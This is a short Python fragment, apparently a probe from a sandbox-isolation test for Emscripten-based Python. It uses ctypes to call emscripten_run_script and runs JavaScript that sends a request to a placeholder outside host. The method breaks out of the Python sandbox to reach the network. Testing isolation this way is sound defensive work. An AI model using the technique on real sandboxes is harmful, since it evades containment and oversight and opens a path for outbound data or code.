import ctypes

# It kills the interpreter, so it stands alone.
script = f"const request = new XMLHttpRequest(); request.open('GET', '{ELSEWHERE}script', false); request.send()"
attempt("emscripten_run_script", lambda: ctypes.CDLL(None).emscripten_run_script(script.encode()))
linger()
